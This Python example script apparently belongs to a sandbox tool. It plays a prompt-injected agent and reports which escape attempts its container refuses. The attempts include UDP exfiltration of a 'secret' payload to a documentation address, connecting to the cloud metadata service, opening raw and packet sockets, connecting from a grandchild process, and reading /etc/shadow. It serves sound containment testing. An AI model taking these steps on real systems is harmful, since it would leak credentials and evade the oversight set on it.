"""An agent that misbehaves on the network and in its container, and tells how it went.

    mis-run -- python3 examples/agents/misbehaves.py

Each attempt is one that a prompt-injected agent would make.  Exit code 0 when all were refused,
1 when any succeeded: without mis-run, most do.
"""

from __future__ import annotations

import errno
import os
import socket
import sys
from collections.abc import Callable
from pathlib import Path

# Documentation addresses (RFC 5737, RFC 3849): nobody is there.
ELSEWHERE, ELSEWHERE6, OTHER_DNS = "192.0.2.66", "2001:db8::66", "198.51.100.53"


def connect(family: int, address: str, port: int) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(1)
        sock.connect((address, port))


def send(address: str, port: int, payload: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(payload, (address, port))


def raw() -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def packet() -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


def grandchild() -> None:
    """The same connection from a process two forks away."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        if os.fork() == 0:
            try:
                connect(socket.AF_INET, ELSEWHERE, 443)
                os.write(writer, b"\0")
            except OSError as error:
                os.write(writer, bytes([error.errno or errno.EIO]))
        os._exit(0)
    os.close(writer)
    if code := os.read(reader, 1)[0]:
        raise OSError(code, os.strerror(code))


ATTEMPTS: dict[str, Callable[[], object]] = {
    "connect to an unlisted host": lambda: connect(socket.AF_INET, ELSEWHERE, 443),
    "the same over IPv6": lambda: connect(socket.AF_INET6, ELSEWHERE6, 443),
    "the cloud's metadata service": lambda: connect(socket.AF_INET, "169.254.169.254", 80),
    "exfiltrate by UDP": lambda: send(ELSEWHERE, 9999, b"secret"),
    "ask another DNS server": lambda: send(OTHER_DNS, 53, b"\0" * 12),
    "open a raw socket": raw,
    "open a packet socket": packet,
    "connect from a grandchild": grandchild,
    "read the password hashes": lambda: Path("/etc/shadow").read_bytes()[:1][0],
}


def main() -> int:
    got_through = 0
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
        except (OSError, IndexError) as error:
            refused = getattr(error, "strerror", None) or "empty"
            print(f"refused  {name}: {refused}")
        else:
            got_through += 1
            print(f"DONE     {name}")
    return 1 if got_through else 0


if __name__ == "__main__":
    sys.exit(main())
